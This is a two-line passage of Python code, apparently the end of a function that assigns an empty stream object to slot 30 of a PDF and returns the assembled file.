    pdf.objects[30] = stream(b"", entries)
    return pdf.file()
